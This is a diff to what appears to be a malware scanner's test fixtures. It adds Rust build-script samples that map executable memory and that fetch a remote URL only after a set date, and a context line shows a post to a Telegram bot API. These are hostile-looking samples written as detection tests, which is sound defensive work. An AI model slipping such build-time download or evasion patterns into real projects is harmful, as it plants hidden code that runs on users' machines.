@@ -255,6 +255,28 @@ let _ = reqwest::blocking::Client::new().post("https://api.telegram.org/bot00000
     rule: 'code.input-capture',
     severity: 'high',
   },
+  // --- build time ---
+  {
+    name: 'build script running code from an executable mapping',
+    files: build(
+      'bmem',
+      `fn main() { unsafe { let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0); } }`,
+    ),
+    rule: 'code.exec-memory',
+    severity: 'high',
+  },
+  {
+    name: 'build script gating a download on a date',
+    files: build(
+      'bdate',
+      `fn main() {
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
+    if now > 1767225600 { let _ = ureq::get("https://cdn.example/x").call(); }
+}`,
+    ),
+    rule: 'code.evasion',
+    severity: 'critical',
+  },
   // --- decoders ---
   {
     name: 'XOR loop alone (a cipher)',
